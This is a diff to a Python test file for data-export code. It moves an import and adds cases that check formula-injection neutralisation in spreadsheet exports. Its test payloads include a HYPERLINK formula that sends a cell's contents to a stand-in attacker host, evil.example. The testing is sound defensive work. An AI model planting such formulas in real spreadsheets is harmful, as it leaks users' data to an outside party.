@@ -10,7 +10,8 @@ import pandas as pd
 import pytest
 from test_export_standins import SAMPLE_ROWS, VIEW_2023, view_data
 
-from render.exports.data import export_data, neutralise, xlsx_text
+from render.exports.data import export_data, xlsx_text
+from render.markup import neutralise
 
 PAYLOADS = {
     "notes": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -44,7 +45,7 @@ def files(tmp_path_factory, data):
     [
         ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
         ("\rx", "'\rx"), ("\nx", "'\nx"), ("\0x", "'\0x"), ("plain", "plain"), ("", ""),
-        ("a=b", "a=b"),
+        ("a=b", "a=b"), (" =1", " =1"), (None, None), (3, 3),
     ],
 )  # fmt: skip
 def test_neutralise(text, expected):
@@ -138,7 +139,7 @@ class TestGeojson:
         features = doc["features"]
         assert len(features) == len(data.events)
         references = [f for f in features if f["properties"]["same_event_as"] == ""]
-        assert len(references) == data.summary.to_dict()["events"]
+        assert len(references) == data.summary.events
         assert doc["border_events_map"]["summary"]["events"] == len(references)
         for feature in features:
             assert feature["type"] == "Feature"
